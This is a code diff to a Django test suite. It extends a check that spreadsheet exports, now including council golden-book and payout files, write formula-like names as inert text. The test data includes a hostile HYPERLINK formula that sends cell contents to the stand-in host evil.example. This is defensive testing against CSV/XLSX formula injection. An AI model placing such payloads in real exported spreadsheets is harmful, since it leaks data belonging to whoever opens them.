@@ -23,6 +23,7 @@ from openpyxl import load_workbook
 
 from awards.models import Nomination, Person
 from campaigns.models import Movement, ReviewPeriod
+from council.models import Decision, DecisionEntry
 from organisation.models import OrgUnit
 from songlo.spreadsheets import FORMULA_STARTS, SafeCSV, SafeXLSX, csv_text
 
@@ -36,7 +37,12 @@ WRITERS = re.compile(
     r"|content_type\s*=\s*\"application/vnd\.openxmlformats-officedocument\.spreadsheetml"
 )
 # The page exports, by the module that builds their response: each has a case in PAGE_EXPORTS.
-PAGE_EXPORT_CALLS = {"awards/views.py": 1, "awards/import_views.py": 1, "campaigns/views/reviews.py": 1}
+PAGE_EXPORT_CALLS = {
+    "awards/views.py": 1,
+    "awards/import_views.py": 1,
+    "campaigns/views/reviews.py": 1,
+    "council/register_views.py": 2,
+}
 
 HOSTILE = {
     "unit": '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
@@ -93,6 +99,8 @@ def _make_hostile():
     nomination = Nomination.objects.filter(person__isnull=False).order_by("pk").first()
     Person.objects.filter(pk=nomination.person_id).update(full_name=HOSTILE["person"])
     Nomination.objects.filter(pk=nomination.pk).update(override_reason=HOSTILE["reason"], movement=period.movement)
+    decided = DecisionEntry.objects.filter(nomination__person__isnull=False).order_by("pk").first()
+    Person.objects.filter(pk=decided.nomination.person_id).update(full_name=HOSTILE["person"])
     get_user_model().objects.filter(username="vanphong").update(full_name=HOSTILE["user"], email=HOSTILE["email"])
     return period
 
@@ -102,6 +110,8 @@ def _page_exports(period) -> dict[str, str]:
         "campaigns:period_export": reverse("campaigns:period_export", args=[period.pk]),
         "awards:nomination_list?export=xlsx": reverse("awards:nomination_list") + "?export=xlsx",
         "awards:import_template": reverse("awards:import_template"),  # no data of anyone's: fixed labels
+        "council:golden_book?format=xlsx": reverse("council:golden_book") + "?year=2024&format=xlsx",
+        "council:payout_xlsx": reverse("council:payout_xlsx", args=[Decision.objects.order_by("pk").first().pk]),
     }
 
 
@@ -130,6 +140,8 @@ def test_demo_page_exports_write_formula_like_names_as_text(demo):
     nomination_cells = _cells(client.get(exports["awards:nomination_list?export=xlsx"]).content)
     template_cells = _cells(client.get(exports["awards:import_template"]).content)
 
+    for name in ("council:golden_book?format=xlsx", "council:payout_xlsx"):
+        _assert_no_formula(_cells(client.get(exports[name]).content), {HOSTILE["person"]})
     _assert_no_formula(period_cells, {HOSTILE["unit"], HOSTILE["movement"]})
     _assert_no_formula(nomination_cells, {HOSTILE["person"], HOSTILE["reason"], HOSTILE["movement"]})
     assert template_cells
